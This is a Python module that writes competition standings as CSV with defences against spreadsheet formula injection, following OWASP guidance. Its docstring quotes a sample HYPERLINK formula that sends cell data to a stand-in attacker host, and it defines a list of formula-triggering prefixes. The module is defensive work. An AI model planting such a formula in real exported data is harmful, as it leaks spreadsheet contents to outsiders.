"""Standings as CSV that a spreadsheet opens as data, never as formulas.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula, so an entrant named
``=HYPERLINK("http://evil.example?"&A1,"click")`` would have run in every
organizer's spreadsheet that opened the standings. As OWASP's "CSV Injection"
advises, such a text cell is written with a leading ``'`` (shown as text, the
name still readable) and every text cell is quoted, so that a separator
inside a name (``;`` for spreadsheets set to use it) cannot start a new cell.
Numbers stay bare; booleans are ``true``/``false``, as in the JSON answer.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

from api.http.schemas import StandingRow

#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> object:
    """``value`` as a cell: numbers as they are, booleans as JSON spells them, text defused."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def standings_csv(rows: Sequence[StandingRow]) -> str:
    """A header row of ``StandingRow``'s fields, then a row per entrant."""
    out = io.StringIO()
    fields = list(StandingRow.__struct_fields__)
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow(fields)
    for row in rows:
        writer.writerow([spreadsheet_cell(getattr(row, field)) for field in fields])
    return out.getvalue()
